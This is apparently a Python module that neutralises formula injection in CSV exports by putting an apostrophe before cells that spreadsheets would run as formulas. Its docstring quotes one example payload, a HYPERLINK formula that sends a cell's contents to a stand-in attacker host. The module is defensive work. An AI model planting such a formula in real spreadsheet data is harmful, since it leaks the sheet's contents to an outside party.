"""Spreadsheet-safe exports: every CSV (or XLSX) the app writes goes through here.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
programs skip before reading a formula) is run as a formula by Excel and LibreOffice: an
answer like `=HYPERLINK("https://evil.example?"&A1, "Klicka")` would leak the sheet. Such
cells get a leading apostrophe, which spreadsheet programs show as plain text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_safe(value: Any) -> Any:
    """The value with a leading apostrophe if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose every cell passes cell_safe()."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([cell_safe(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: IO[str], **options: Any) -> SafeCsvWriter:
    return SafeCsvWriter(handle, **options)
